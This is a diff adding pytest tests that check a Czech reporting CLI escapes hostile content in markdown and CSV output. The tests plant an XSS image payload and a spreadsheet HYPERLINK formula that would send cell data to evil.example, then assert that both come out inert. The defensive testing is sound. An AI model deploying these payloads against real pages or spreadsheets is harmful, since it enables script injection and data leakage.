@@ -381,3 +381,61 @@ def test_p08_bidi_override_in_a_title_is_a_warning(example_repo: Path, run_kpss)
     assert "\\u202e" in found["message"] and "\u202e" not in found["message"]
     text_out = run_kpss("validate", "--repo", example_repo).stdout
     assert "\u202e" not in text_out
+
+
+# -- 7. report: markdown without HTML or links, CSV without formulas -----------------------------
+
+IMG = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikni")'
+
+
+def _html_of(markdown: str) -> str:
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").enable("table").render(markdown)
+
+
+def _retitle(root: Path, new: str) -> None:
+    plan = root / PLAN
+    text = plan.read_text(encoding="utf-8")
+    old = "title: Osobní asistence, tísňová péče a poradenství pro osoby žijící samostatně"
+    plan.write_text(text.replace(old, "title: " + json.dumps(new, ensure_ascii=False), 1), encoding="utf-8")
+
+
+def test_p07_report_markdown_shows_html_and_links_as_text(example_repo: Path, run_kpss) -> None:
+    _retitle(example_repo, f"{IMG} [klikni](http://evil.example) @kpss/everyone **tučně**")
+    for kind in ("fulfilment", "finance"):
+        result = run_kpss("report", kind, "--format", "markdown", "--repo", example_repo)
+        assert result.exit_code == 0, result.output
+        html = _html_of(result.stdout)
+        if kind == "fulfilment":
+            assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown, as text
+            assert "@\u200dkpss/everyone" in result.stdout
+        assert "<img" not in html and "<a " not in html
+        assert "<strong>tučně</strong>" not in html
+
+
+def test_p07_csv_cells_cannot_be_formulas(example_repo: Path, run_kpss) -> None:
+    import csv
+    import io
+
+    _retitle(example_repo, FORMULA)
+    for excel in (False, True):
+        args = ["report", "fulfilment", "--format", "csv", "--repo", example_repo] + (["--excel"] if excel else [])
+        result = run_kpss(*args)
+        assert result.exit_code == 0, result.output
+        rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";" if excel else ","))
+        titles = {row[rows[0].index("measure_title")] for row in rows[1:]}
+        assert "'" + FORMULA in titles and FORMULA not in titles
+        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+
+def test_p07_markdown_inline_escapes() -> None:
+    from kpss_cli.textsafe import csv_text, markdown_inline
+
+    assert markdown_inline(IMG) == "\\<img src=x onerror=alert(1)\\>"
+    assert markdown_inline("# a\n- b") == "\\# a - b"
+    assert markdown_inline("@jan") == "@\u200djan"
+    for cell in ("=1+1", "+420", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_text(cell) == "'" + cell
+    assert csv_text("Senioři") == "Senioři"
